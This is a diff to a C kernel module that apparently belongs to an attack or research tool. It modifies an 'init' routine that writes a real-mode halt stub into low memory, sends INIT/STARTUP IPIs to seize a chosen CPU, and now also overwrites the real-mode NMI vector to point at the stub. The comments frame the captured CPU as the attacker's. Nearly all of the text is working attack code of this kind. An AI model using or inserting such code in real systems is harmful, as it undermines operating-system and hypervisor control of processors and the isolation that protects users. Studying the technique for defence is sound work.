@@ -45,6 +45,7 @@
 #include <asm/pgtable.h>
 #include <asm/smp.h>
 #include <asm/tlbflush.h>
+#include <asm/trapnr.h>
 
 #include "kyozon.h"
 #include "attacks.h"
@@ -657,13 +658,16 @@ static int nmis(struct kyozon *k, char *argument)
 #define LOW_PAGE	0x8000	/* Linux leaves the first MiB alone */
 #define LOW_MARK	0x100
 
-/* That CPU is the attacker's then, with nothing below it. */
+/* That CPU is the attacker's then, with nothing below it. An NMI starts it, too. */
 static int init(struct kyozon *k, char *unused)
 {
-	/* movw $0x5150, %cs:0x100; 1: hlt; jmp 1b */
-	static const u8 code[] = { 0x2e, 0xc7, 0x06, 0x00, 0x01, 0x50, 0x51, 0xf4, 0xeb, 0xfd };
+	static const u8 code[] = {
+		0x2e, 0xc7, 0x06, 0x00, 0x01, 0x50, 0x51, /* movw $0x5150, %cs:0x100 */
+		0xf4,					/* 1: hlt */
+		0xeb, 0xfd,				/* jmp 1b */
+	};
 	u8 *page = __va(LOW_PAGE);
-	u16 *mark = (u16 *)(page + LOW_MARK);
+	u16 *mark = (u16 *)(page + LOW_MARK), *vector = __va(4 * X86_TRAP_NMI);
 
 	if (get_cpu() == k->cpu) {
 		put_cpu();
@@ -671,6 +675,8 @@ static int init(struct kyozon *k, char *unused)
 	}
 	memcpy(page, code, sizeof(code));
 	WRITE_ONCE(*mark, 0);
+	vector[0] = 0;
+	vector[1] = LOW_PAGE >> 4;
 	send(k->cpu, APIC_DM_INIT | APIC_INT_LEVELTRIG | APIC_INT_ASSERT);
 	mdelay(10);
 	send(k->cpu, APIC_DM_STARTUP | LOW_PAGE >> PAGE_SHIFT);
